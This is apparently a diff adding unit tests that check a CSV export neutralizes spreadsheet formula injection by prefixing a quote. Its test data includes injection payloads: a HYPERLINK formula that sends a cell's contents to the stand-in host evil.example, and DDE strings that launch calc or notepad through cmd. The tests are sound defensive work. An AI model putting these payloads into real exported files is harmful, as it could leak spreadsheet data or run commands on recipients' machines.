@@ -29,6 +29,39 @@ describe('csvField quotes exactly the fields that need it', () => {
   });
 });
 
+describe('text a spreadsheet would run as a formula is neutralized (OWASP): a leading quote, always quoted', () => {
+  test.each<[string, string, string]>([
+    ['=', '=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
+    ['+', "+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
+    ['-', '-2+3', `"'-2+3"`],
+    ['@', '@SUM(1,2)', `"'@SUM(1,2)"`],
+    ['tab', '\t=1+1', `"'\t=1+1"`],
+    ['CR', '\r=1+1', `"'\r=1+1"`],
+    ['LF', '\n=1+1', `"'\n=1+1"`],
+    ['leading spaces', '   =1+1', `"'   =1+1"`],
+    ['full-width equals', '\uff1d1+1', `"'\uff1d1+1"`],
+    ['DDE', "=cmd|' /C notepad'!A1", `"'=cmd|' /C notepad'!A1"`],
+  ])('starting with %s', (_label, value, expected) => {
+    expect(csvField(value)).toBe(expected);
+    // An RFC 4180 parser reads the neutralized text back: the original behind one quote.
+    expect(parse(`${expected}\r\n`, { relax_quotes: false })[0][0]).toBe(`'${value}`);
+  });
+
+  test.each<[string, Parameters<typeof csvField>[0], string]>([
+    ['a negative number stays a number', -5, '-5'],
+    ['a formula character inside text is left alone', 'a=b+c', 'a=b+c'],
+    ['an e-mail address is left alone', 'ops@example.com', 'ops@example.com'],
+  ])('%s', (_label, value, expected) => {
+    expect(csvField(value)).toBe(expected);
+  });
+
+  test('every report cell goes through it, structured values included', () => {
+    const report = new ReportBuilder('CSV', ['name', 'details'] as const);
+    report.add({ name: '=1+2', details: { note: '=3' } });
+    expect(report.finish().content).toBe(`name,details\r\n"'=1+2","{""note"":""=3""}"\r\n`);
+  });
+});
+
 test('a record ends in CRLF and joins fields with commas', () => {
   expect(csvRecord(['a', 'b,c', null, 3])).toBe('a,"b,c",,3\r\n');
 });
@@ -56,7 +89,8 @@ test('awkward values survive a round trip through an independent RFC 4180 parser
   values.forEach((v, i) => w.add({ i, value: v }));
   const parsed: string[][] = parse(w.toString(), { record_delimiter: '\r\n', relax_quotes: false });
   expect(parsed[0]).toEqual(['i', 'value']);
-  expect(parsed.slice(1)).toEqual(values.map((v, i) => [String(i), v]));
+  // Formula-like text comes back behind the quote that neutralizes it; everything else exactly.
+  expect(parsed.slice(1)).toEqual(values.map((v, i) => [String(i), v.startsWith('=') ? `'${v}` : v]));
 });
 
 describe('ReportBuilder', () => {
